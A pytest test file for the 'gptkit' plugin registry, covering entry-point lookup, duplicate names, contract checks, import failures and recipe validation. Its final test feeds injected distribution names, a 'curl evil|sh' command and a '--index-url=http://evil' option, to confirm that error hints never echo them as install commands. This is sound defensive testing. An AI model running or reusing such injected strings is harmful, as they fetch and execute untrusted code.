import importlib
import sys
import tomllib
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any, ClassVar

import pytest

from gptkit.codec import Codec
from gptkit.errors import GptkitError, PluginError, RecipeError
from gptkit.plugin import Callback
from gptkit.recipe import build, codec_record, registry
from gptkit.recipe.codec_record import CodecRecord, make_codec
from gptkit.recipe.recipe import PluginSpec
from gptkit.runs import run_folder
from gptkit.runs import train as run
from gptkit.runs.loaded import load_checkpoint

Install = Callable[..., Path]
TinyRecipe = Callable[..., Path]
BROKEN = "import module_that_nobody_has"
CALLBACK = """
    from gptkit.plugin import Callback

    class Mine(Callback):
        \"\"\"Does nothing.\"\"\"
        contract = 1
"""


class Unannounced(Codec):
    contract = 1
    suffix: ClassVar[str] = ".txt"

    def encode(self, prompt: str) -> list[int]:
        return [0]

    def decode(self, tokens: Sequence[int]) -> bytes:
        return b""


def refusal(path: Path) -> RecipeError:
    """The error that a recipe's plugins give."""
    with pytest.raises(RecipeError) as caught:
        build.build(build.read(path))
    return caught.value


def test_the_first_party_plugins_are_installed() -> None:
    found = {kind: [entry.name for entry in registry.installed(kind)] for kind in registry.GROUPS}
    assert "char-text" in found["dataset"]
    assert {"grad-clip", "log", "lr-decay"} <= set(found["callback"])
    assert "char" in found["codec"]


@pytest.mark.parametrize(
    ("kind", "name", "meant"),
    [("dataset", "char-txt", "char-text"), ("callback", "gradclip", "grad-clip")],
)
def test_an_unknown_name_comes_with_the_closest_and_the_installed(
    kind: registry.Kind, name: str, meant: str
) -> None:
    with pytest.raises(PluginError) as caught:
        registry.find(kind, name)
    assert str(caught.value) == f'no {kind} named "{name}"'
    hint = caught.value.hint or ""
    assert hint.startswith("installed: ")
    assert f"{meant} (gptkit-{meant} 0.6.0)" in hint
    assert hint.endswith(f'; did you mean "{meant}"?')


def test_a_name_like_no_other_comes_with_the_installed_alone() -> None:
    with pytest.raises(PluginError) as caught:
        registry.find("callback", "qqqqqq")
    assert "did you mean" not in (caught.value.hint or "")
    assert "log (gptkit-log 0.6.0)" in (caught.value.hint or "")


def test_a_name_claimed_twice_is_refused_with_both_claims(
    distribution: Install, tiny_recipe: TinyRecipe
) -> None:
    distribution("acme-log", CALLBACK, callbacks="log = Mine")
    (problem,) = refusal(tiny_recipe()).problems
    assert problem.place == "callbacks[2].use"
    claims = "acme-log 1.2 and gptkit-log 0.6.0"
    assert problem.fault == f'the callback name "log" is claimed by {claims}'
    chosen = '"acme-log:log" or "gptkit-log:log"'
    assert problem.hint == f"choose one: {chosen}; or pip uninstall the other"
    assert "acme_log" not in sys.modules


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("on_step_begin", "on_step_start"),
        ("on_train_begin", "on_fit_start"),
        ("on_validation_end", "on_eval_end"),
        ("on_save", "on_save_end"),
    ],
)
def test_an_event_of_another_library_is_answered_with_ours(written: str, meant: str) -> None:
    with pytest.raises(TypeError, match=f'{written} is not an event; did you mean "{meant}"'):
        type("Mine", (Callback,), {written: lambda self, state: None, "__module__": __name__})


def test_an_entry_point_in_a_group_that_does_not_exist_is_found(
    distribution: Install, cli: Callable[..., Any]
) -> None:
    distribution("acme-lost", CALLBACK, callback="lost = Mine")
    result = cli("plugins", "check")
    assert result.exit_code == 2
    said = "lost (acme-lost 1.2) is announced in gptkit.callback, a group that gptkit has not"
    assert f'{said}; did you mean "gptkit.callbacks"?\n' in result.stdout
    assert cli("plugins", "check", "log").exit_code == 0


def test_what_a_plugin_prints_at_import_is_no_result(
    distribution: Install, tiny_recipe: TinyRecipe, cli: Callable[..., Any]
) -> None:
    distribution("acme-loud", f"{CALLBACK}\n    print('hello')\n", callbacks="loud = Mine")
    result = cli("check", tiny_recipe(callbacks=[{"use": "loud"}]))
    assert result.exit_code == 0
    tomllib.loads(result.stdout)
    assert result.stderr.startswith("hello\n")


@pytest.mark.parametrize("use", ["Acme_Log:log", "gptkit-log:log"])
def test_a_name_claimed_twice_is_used_with_its_distribution(
    distribution: Install, tiny_recipe: TinyRecipe, use: str
) -> None:
    source = f"{CALLBACK}\n        every: int = 3\n"
    distribution("acme-log", source, callbacks="log = Mine")
    recipe = tiny_recipe(callbacks=[{"use": use}])
    for override in ("callbacks.log.every=5", f"callbacks.{use}.every=5"):
        built = build.build(build.read(recipe, [override]))
        (entry,) = built.entries[1:]
        assert entry.distribution == use.lower().replace("_", "-").removesuffix(":log")
        assert built.recipe.callbacks[0].options["every"] == 5
        assert built.recipe.flat()[f"callbacks.{use}.every"] == 5
    both = tiny_recipe(callbacks=[{"use": "acme-log:log"}, {"use": "gptkit-log:log"}])
    build.build(build.read(both, [f"callbacks.{use.lower().replace('_', '-')}.every=5"]))
    with pytest.raises(GptkitError, match="appears twice"):
        build.read(both, ["callbacks.log.every=5"])


def test_a_distribution_without_that_plugin_is_unknown(tiny_recipe: TinyRecipe) -> None:
    (problem,) = refusal(tiny_recipe(callbacks=[{"use": "gptkit-logs:log"}])).problems
    assert problem.fault == 'no callback named "gptkit-logs:log"'
    assert "gptkit-log" in (problem.hint or "")


@pytest.mark.parametrize("option", ["use", "on_error"])
def test_an_option_that_no_recipe_could_set_is_refused_at_class_creation(
    distribution: Install, tiny_recipe: TinyRecipe, option: str
) -> None:
    distribution("acme-taken", f"{CALLBACK}\n        {option}: int = 3\n", callbacks="taken = Mine")
    (problem,) = refusal(tiny_recipe(callbacks=[{"use": "taken"}])).problems
    assert f"(acme-taken 1.2): Mine.{option}: recipes use that key; rename the" in problem.fault
    assert problem.hint == "mend the class in acme_taken, or tell the authors of acme-taken"


def test_a_codec_of_a_name_claimed_twice_is_that_of_its_distribution(
    distribution: Install,
) -> None:
    distribution(
        "acme-char", "from gptkit.testing import LetterCodec as Mine", codecs="char = Mine"
    )
    options = {"vocabulary": "abc"}
    record = CodecRecord(name="char", distribution="gptkit_char_text", options=options)
    assert codec_record.make_codec(record).encode("c") == [2]


def test_a_codec_that_its_package_exports_under_another_path_is_found(
    distribution: Install,
) -> None:
    source = """
        from gptkit.testing import LetterCodec

        class Inner(LetterCodec):
            __module__ = "acme_inner.codec"

        Mine = Inner
    """
    distribution("acme-inner", source, codecs="inner = Mine")
    codec = importlib.import_module("acme_inner").Mine()
    assert codec_record.codec_entry(codec).name == "inner"


def test_one_name_may_stand_for_things_of_different_kinds(
    distribution: Install, tiny_recipe: TinyRecipe
) -> None:
    distribution("acme-log", CALLBACK, callbacks="char-text = Mine")
    callbacks = [{"use": "char-text"}]
    built = build.build(build.read(tiny_recipe(callbacks=callbacks)))
    assert [entry.origin for entry in built.entries] == ["gptkit-char-text 0.6.0", "acme-log 1.2"]
    assert [entry.kind for entry in registry.find_any("char-text")] == ["dataset", "callback"]


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        (BROKEN, "ModuleNotFoundError: No module named 'module_that_nobody_has'"),
        ("1 / 0", "ZeroDivisionError: division by zero"),
        ("class Mine(", "SyntaxError: "),
        ("Yours = 3", "AttributeError: module 'acme_broken' has no attribute 'Mine'"),
        ("raise SystemExit(7)", "SystemExit: 7"),
    ],
)
def test_a_plugin_that_fails_to_import_is_named(
    distribution: Install, tiny_recipe: TinyRecipe, source: str, reason: str
) -> None:
    distribution("acme-broken", source, callbacks="broken = Mine")
    (problem,) = refusal(tiny_recipe(callbacks=[{"use": "log"}, {"use": "broken"}])).problems
    assert problem.place == "callbacks[1].use"
    where = "callback broken (acme-broken 1.2) cannot be imported: "
    assert problem.fault.startswith(where + reason)
    assert "gptkit plugins check broken" in (problem.hint or "")


@pytest.mark.parametrize(
    "source",
    [
        "def Mine(): ...",
        "Mine = 3",
        "class Mine: ...",
        "from gptkit.plugin import Callback as Mine",
        "from gptkit_char_text.codec import CharCodec as Mine",
    ],
)
def test_a_class_of_another_kind_is_refused(
    distribution: Install, tiny_recipe: TinyRecipe, source: str
) -> None:
    distribution("acme-other", source, datasets="other = Mine")
    (problem,) = refusal(tiny_recipe(dataset={"use": "other"})).problems
    assert problem.place == "dataset.use"
    said = "dataset other (acme-other 1.2): acme_other:Mine is not a subclass of Dataset"
    assert problem.fault == said


def test_a_class_without_the_contracts_methods_is_refused(
    distribution: Install, tiny_recipe: TinyRecipe
) -> None:
    source = """
        from gptkit.codec import Codec
        from gptkit.plugin import Dataset

        class Half(Dataset):
            \"\"\"Lacks load.\"\"\"
            contract = 1

        class HalfCodec(Codec):
            contract = 1
            suffix = ".txt"
    """
    distribution("acme-half", source, datasets="half = Half", codecs="half = HalfCodec")
    (problem,) = refusal(tiny_recipe(dataset={"use": "half"})).problems
    assert "half (acme-half 1.2)" in problem.fault
    assert "load" in problem.fault
    with pytest.raises(PluginError, match=r"half.*decode"):
        codec_record.make_codec(CodecRecord(name="half", distribution="acme-half", options={}))


@pytest.mark.parametrize(
    ("declared", "said", "hint"),
    [
        ("", "declares no contract", "write contract = 1 in the class"),
        (
            "contract = 2",
            "is written for contract 2; this gptkit has contract 1",
            "pip install --upgrade gptkit",
        ),
        (
            "contract = 0",
            "is written for contract 0; this gptkit has contract 1",
            "pip install --upgrade acme-old",
        ),
    ],
)
@pytest.mark.parametrize("kind", ["callback", "codec"])
def test_a_plugin_of_another_contract_is_refused(
    distribution: Install, kind: registry.Kind, declared: str, said: str, hint: str
) -> None:
    source = f"""
        from gptkit.codec import Codec
        from gptkit.plugin import Callback
        from gptkit.testing import LetterCodec

        class Mine({"LetterCodec" if kind == "codec" else "Callback"}):
            \"\"\"A plugin.\"\"\"
            {declared}
    """
    distribution("acme-old", source, **{f"{kind}s": "old = Mine"})
    with pytest.raises(PluginError) as caught:
        registry.load(registry.find(kind, "old"))
    assert str(caught.value) == f"{kind} old (acme-old 1.2): acme_old:Mine {said}"
    assert caught.value.hint == hint


def test_a_base_outside_gptkit_declares_the_contract_of_its_plugins(distribution: Install) -> None:
    source = f"""{CALLBACK}
    class Further(Mine): ...
    """
    distribution("acme-base", source, callbacks="further = Further")
    assert registry.load(registry.find("callback", "further"))


def test_an_event_that_is_none_is_refused_at_class_creation(
    distribution: Install, tiny_recipe: TinyRecipe
) -> None:
    source = """
        from gptkit.plugin import Callback

        class Typo(Callback):
            contract = 1

            def on_step_ends(self, state): ...
    """
    distribution("acme-typo", source, callbacks="typo = Typo")
    (problem,) = refusal(tiny_recipe(callbacks=[{"use": "typo"}])).problems
    said = 'Typo.on_step_ends is not an event; did you mean "on_step_end"?'
    assert problem.fault.endswith(f"(acme-typo 1.2): {said}")


def test_wrong_options_come_all_at_once_with_place_and_hint(tiny_recipe: TinyRecipe) -> None:
    callbacks = [{"use": "log", "evry": 3}, {"use": "grad-clip", "max_norm": -1, "zz": 2}]
    error = refusal(tiny_recipe(callbacks=callbacks, dataset={"val_fraction": 2.0}))
    found = {problem.place: problem.fault for problem in error.problems}
    assert found == {
        "dataset (char-text).val_fraction": "should be less than 1, got 2.0",
        "callbacks[0] (log).evry": 'unknown key; did you mean "every"?',
        "callbacks[1] (grad-clip).max_norm": "should be greater than 0, got -1",
        "callbacks[1] (grad-clip).zz": "unknown key; known: max_norm",
    }
    assert (error.hint or "").splitlines() == [
        f"gptkit plugins show {name} lists its options"
        for name in ("char-text", "log", "grad-clip")
    ]


def test_only_the_named_plugins_are_imported(
    distribution: Install, tiny_recipe: TinyRecipe
) -> None:
    distribution("acme-idle", CALLBACK, callbacks="idle = Mine", datasets="idle = Mine")
    build.build(build.read(tiny_recipe()))
    assert "acme_idle" not in sys.modules
    build.build(build.read(tiny_recipe(callbacks=[{"use": "idle"}])))
    assert "acme_idle" in sys.modules


def test_a_broken_plugin_that_is_not_named_is_invisible(
    distribution: Install, tiny_recipe: TinyRecipe, cli: Callable[..., Any]
) -> None:
    entries = dict.fromkeys(("callbacks", "datasets", "codecs"), "broken = Mine")
    distribution("acme-broken", BROKEN, **entries)
    recipe = tiny_recipe(train={"steps": 2})
    for command in (
        ["--help"],
        ["check", recipe],
        ["train", recipe, "--out", "r"],
        ["resume", "r"],
        ["sample", "r", "--tokens", "3"],
        ["eval", "r"],
        ["runs", "list"],
        ["runs", "show", "r"],
        ["plugins", "list"],
        ["plugins", "show", "log"],
        ["plugins", "check", "log"],
    ):
        result = cli(*command)
        assert result.exit_code == 0, (command, result.output)
        assert "module_that_nobody_has" not in result.output
    result = cli("plugins", "check")
    assert result.exit_code == 2
    assert result.stdout.count("broken (acme-broken 1.2) cannot be imported") == 3
    assert "acme_broken.py" in result.stdout  # the traceback says where
    assert "lr-decay (gptkit-lr-decay 0.6.0): ok" in result.stdout


def test_a_plugin_that_exits_does_not_end_the_check(
    distribution: Install, cli: Callable[..., Any]
) -> None:
    distribution("acme-exit", "raise SystemExit(7)", callbacks="an-exit = Mine")
    result = cli("plugins", "check")
    assert result.exit_code == 2
    assert "lr-decay (gptkit-lr-decay 0.6.0): ok" in result.stdout


def test_the_complete_recipe_builds_the_same_again(tiny_recipe: TinyRecipe, tmp_path: Path) -> None:
    built = build.build(build.read(tiny_recipe(train={"optimizer": {"use": "muon"}})))
    (tmp_path / "written.toml").write_text(built.recipe.to_toml(), encoding="utf-8")
    again = build.build(build.read(tmp_path / "written.toml"))
    assert again.recipe == built.recipe
    assert again.dataset == built.dataset
    assert list(again.callbacks.items()) == list(built.callbacks.items())
    assert built.recipe.callbacks[1].options == {"max_norm": 1.0}
    assert built.recipe.dataset.options["source"] == "sonnets"


def test_the_recipe_of_a_run_trains_to_the_same_weights(
    tiny_recipe: TinyRecipe, tmp_path: Path
) -> None:
    first = run.train(tiny_recipe(), ["seed=5"], out=tmp_path / "a", report=print)
    second = run.train(first.recipe, out=tmp_path / "b", report=print)
    weights = [r.step_folder() / "model.safetensors" for r in (first, second)]
    assert weights[0].read_bytes() == weights[1].read_bytes()
    assert first.recipe.read_text() == second.recipe.read_text()


def test_a_relative_path_is_the_same_from_anywhere(
    tiny_recipe: TinyRecipe, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    recipe = tiny_recipe(dataset={"path": "my.txt"})
    built = build.build(build.read(recipe))
    assert built.recipe.dataset.options["path"] == str(tmp_path / "my.txt")


def test_callbacks_go_by_name_and_errors_add_position_and_origin(tiny_recipe: TinyRecipe) -> None:
    callbacks = [{"use": "log"}, {"use": "grad-clip"}, {"use": "log", "every": 3}]
    built = build.build(build.read(tiny_recipe(callbacks=callbacks)))
    assert list(built.callbacks) == ["log", "grad-clip", "log-2"]
    assert list(built.labels.values()) == [
        "callbacks[0] (log, gptkit-log 0.6.0)",
        "callbacks[1] (grad-clip, gptkit-grad-clip 0.6.0)",
        "callbacks[2] (log, gptkit-log 0.6.0)",
    ]


def test_a_codec_is_found_by_its_class_and_made_by_its_name() -> None:
    codec = codec_record.make_codec(
        CodecRecord(name="char", distribution="gptkit-char-text", options={"vocabulary": "abc"})
    )
    assert codec.encode("cab") == [2, 0, 1]
    entry = codec_record.codec_entry(codec)
    assert (entry.name, entry.distribution) == ("char", "gptkit-char-text")


def test_a_codec_that_nobody_announces_is_refused() -> None:
    with pytest.raises(PluginError) as caught:
        codec_record.codec_entry(Unannounced())
    assert "Unannounced has no entry point" in str(caught.value)
    assert '[project.entry-points."gptkit.codecs"]' in (caught.value.hint or "")


def test_a_codec_that_declares_no_contract_is_not_recorded(distribution: Install) -> None:
    source = """
        from gptkit.testing import LetterCodec

        class Mine(LetterCodec):
            __module__ = "acme_undeclared"
    """
    distribution("acme-undeclared", source, codecs="undeclared = Mine")
    codec = importlib.import_module("acme_undeclared").Mine()
    with pytest.raises(PluginError, match="acme_undeclared:Mine declares no contract") as caught:
        codec_record.record_codec(codec)
    assert caught.value.hint == "write contract = 1 in the class"


def test_a_codec_that_is_not_installed_names_its_distribution() -> None:
    with pytest.raises(PluginError, match='"runes" that this model needs') as caught:
        codec_record.make_codec(CodecRecord(name="runes", distribution="acme-runes", options={}))
    assert caught.value.hint == "pip install acme-runes"


@pytest.mark.parametrize("options", [{}, {"vocabulary": "aa"}, {"vocabulary": "ab", "extra": 1}])
def test_a_codec_that_does_not_take_its_options_names_its_distribution(options: Any) -> None:
    with pytest.raises(PluginError, match='"char" does not accept') as caught:
        codec_record.make_codec(
            CodecRecord(name="char", distribution="gptkit-char-text", options=options)
        )
    assert "gptkit-char-text" in (caught.value.hint or "")


def test_a_recipe_can_lose_its_plugin(
    distribution: Install, tiny_recipe: TinyRecipe, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = distribution("acme-gone", CALLBACK, callbacks="gone = Mine")
    recipe = tiny_recipe(callbacks=[{"use": "gone"}])
    trained = run.train(recipe, out=tmp_path / "r", report=print)
    monkeypatch.setattr(sys, "path", [place for place in sys.path if place != str(site)])
    with pytest.raises(GptkitError, match='no callback named "gone"'):
        run.resume(trained.path, report=print)
    assert load_checkpoint(trained.path).state.step == 4  # sampling needs the codec alone
    assert run_folder.open_run(trained.path).step_folder().name == "step-00000004"


@pytest.mark.parametrize(
    ("kind", "use", "options"),
    [
        ("dataset", "char-text", {"block_size": True}),
        ("dataset", "char-text", {"val_fraction": "0.1"}),
        ("dataset", "cifar10", {"size": "16"}),
        ("callback", "log", {"every": True}),
        ("callback", "log", {"sample_seed": -5}),
    ],
)
def test_options_of_a_wrong_type_are_refused(kind: str, use: str, options: dict[str, Any]) -> None:
    spec = PluginSpec.model_validate({"use": use, **options})
    (problem,) = build.check_plugin(kind, spec, "here")
    assert problem.place == f"here ({use}).{next(iter(options))}"


def test_an_infinite_option_survives_the_written_recipe(
    tiny_recipe: TinyRecipe, tmp_path: Path
) -> None:
    clip = {"use": "grad-clip", "max_norm": float("inf")}
    recipe = build.build(build.read(tiny_recipe(callbacks=[clip]))).recipe
    (tmp_path / "written.toml").write_text(recipe.to_toml())
    assert build.read(tmp_path / "written.toml") == recipe
    assert recipe.flat()["callbacks.grad-clip.max_norm"] == float("inf")


@pytest.mark.parametrize(
    ("distribution", "hint"),
    [
        ("my-codecs.2", "pip install my-codecs.2"),
        ("evil\x07 && curl evil|sh", "install the plugin that has it"),
        ("--index-url=http://evil", "install the plugin that has it"),
    ],
)
def test_only_a_name_is_quoted_from_a_foreign_model(distribution: str, hint: str) -> None:
    record = CodecRecord(name="nobody-has-it", distribution=distribution, options={})
    with pytest.raises(PluginError, match="nobody-has-it") as error:
        make_codec(record)
    assert error.value.hint == hint
